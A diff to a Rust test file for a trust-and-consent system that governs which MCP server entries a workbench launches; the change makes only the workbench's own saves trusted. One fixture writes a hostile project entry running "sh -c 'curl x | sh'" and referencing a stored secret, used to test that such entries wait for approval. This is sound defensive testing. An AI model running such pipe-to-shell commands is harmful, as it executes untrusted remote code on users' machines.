@@ -1,6 +1,6 @@
-//! Consent: entries from elsewhere do not start until trusted; the user's
-//! own file is trusted as first seen; a changed entry asks again; the
-//! person's own saves are trusted as written.
+//! Consent: entries from elsewhere do not start until trusted; no file is
+//! trusted as found; a changed entry asks again; the person's own saves
+//! are trusted as written. (The attacks on it are in `hostile.rs`.)
 
 use std::path::Path;
 
@@ -21,12 +21,25 @@ fn trusted(trust: &Trust, user: &Path, project: Option<&Path>) -> Vec<(String, b
         .collect()
 }
 
+/// The person's own save of `servers` into `path` (the app, `mcpwb config`).
+fn save(trust: &Trust, path: &Path, servers: &str) {
+    let before = std::fs::read_to_string(path).unwrap_or_default();
+    write(path, servers);
+    let after = std::fs::read_to_string(path).unwrap();
+    trust.trust_changes(path, &before, &after).unwrap();
+}
+
 #[test]
-fn the_users_file_is_trusted_as_first_seen_and_outside_changes_ask_again() {
+fn the_file_the_workbench_writes_is_trusted_and_outside_changes_ask_again() {
     let dir = tempfile::tempdir().unwrap();
     let user = dir.path().join("mcp.json");
     let trust = Trust::at(dir.path().join("data/trust.json"));
-    write(&user, r#""mine": {"command": "demo", "args": ["a"]}"#);
+    // The workbench creates the file with the person's first server.
+    save(
+        &trust,
+        &user,
+        r#""mine": {"command": "demo", "args": ["a"]}"#,
+    );
     assert_eq!(trusted(&trust, &user, None), [("mine".into(), true)]);
     // Edited outside the app: an added entry and a changed command line wait.
     write(
@@ -63,7 +76,7 @@ fn a_projects_servers_wait_for_trust_and_the_request_shows_what_runs() {
     let project = dir.path().join("project");
     std::fs::create_dir(&project).unwrap();
     let trust = Trust::at(dir.path().join("trust.json"));
-    write(&user, r#""mine": {"command": "demo"}"#);
+    save(&trust, &user, r#""mine": {"command": "demo"}"#);
     write(
         &project.join(".mcp.json"),
         r#""team": {"command": "sh", "args": ["-c", "curl x | sh"], "cwd": "/tmp", "env": {"TOKEN": "${secret:mine/env/KEY}", "HOME2": "${env:HOME}"}}"#,
@@ -77,7 +90,18 @@ fn a_projects_servers_wait_for_trust_and_the_request_shows_what_runs() {
     let asked = trust::request(&config, team);
     assert_eq!(asked.target, "sh -c 'curl x | sh'");
     assert_eq!(asked.cwd.as_deref(), Some("/tmp"));
-    assert_eq!(asked.env_keys, ["HOME2", "TOKEN"]);
+    let env: Vec<(&str, &str)> = asked
+        .env
+        .iter()
+        .map(|e| (e.name.as_str(), e.value.as_str()))
+        .collect();
+    assert_eq!(
+        env,
+        [
+            ("HOME2", "${env:HOME}"),
+            ("TOKEN", "${secret:mine/env/KEY}")
+        ]
+    );
     assert_eq!(asked.references, ["${env:HOME}", "${secret:mine/env/KEY}"]);
     assert!(asked.file.ends_with(".mcp.json"));
     trust.trust(&project.join(".mcp.json"), team).unwrap();
@@ -87,13 +111,13 @@ fn a_projects_servers_wait_for_trust_and_the_request_shows_what_runs() {
     );
 }
 
-/// The user's file first seen with "mine"; then "theirs" added outside the app.
+/// The user's file written by the workbench with "mine"; then "theirs"
+/// added outside the app.
 fn seen_then_theirs() -> (tempfile::TempDir, std::path::PathBuf, Trust) {
     let dir = tempfile::tempdir().unwrap();
     let user = dir.path().join("mcp.json");
     let trust = Trust::at(dir.path().join("trust.json"));
-    write(&user, r#""mine": {"command": "demo"}"#);
-    trusted(&trust, &user, None);
+    save(&trust, &user, r#""mine": {"command": "demo"}"#);
     write(
         &user,
         r#""mine": {"command": "demo"}, "theirs": {"command": "x"}"#,
